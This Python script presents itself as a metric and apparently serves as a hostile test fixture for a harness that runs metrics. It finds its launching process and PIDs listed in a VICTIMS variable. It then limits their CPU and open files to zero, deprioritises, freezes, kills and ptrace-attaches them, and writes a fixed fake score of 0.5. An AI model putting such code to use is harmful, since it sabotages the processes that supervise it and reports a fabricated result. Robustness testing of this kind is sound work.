"""A metric that takes the processor from whatever started it, and stops it in every other way."""

import argparse
import contextlib
import ctypes
import json
import os
import resource
import signal
import time
from collections.abc import Callable
from pathlib import Path

parser = argparse.ArgumentParser()
parser.add_argument("-i", "--input-path", type=Path, required=True)
parser.add_argument("-o", "--output-path", type=Path, required=True)
args = parser.parse_args()


def parents() -> list[int]:
    """The process that started uv, and those that are named."""
    try:
        above = int(Path(f"/proc/{os.getppid()}/stat").read_text().rpartition(")")[2].split()[1])
    except OSError:
        above = 1
    return [above, *map(int, os.environ["VICTIMS"].split(":"))]


attacks: list[Callable[[int], object]] = [
    lambda process: resource.prlimit(process, resource.RLIMIT_CPU, (0, 0)),
    lambda process: resource.prlimit(process, resource.RLIMIT_NOFILE, (0, 0)),
    lambda process: os.setpriority(os.PRIO_PROCESS, process, 19),
    lambda process: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)),
    lambda process: os.sched_setaffinity(process, {0}),
    lambda process: os.kill(process, signal.SIGSTOP),
    lambda process: os.kill(process, signal.SIGKILL),
    lambda process: ctypes.CDLL(None, use_errno=True).ptrace(16, process, 0, 0),
]
for process in parents():
    for attack in attacks:
        with contextlib.suppress(OSError):
            attack(process)
time.sleep(0.5)
args.output_path.write_text(json.dumps({"mean": 0.5}))
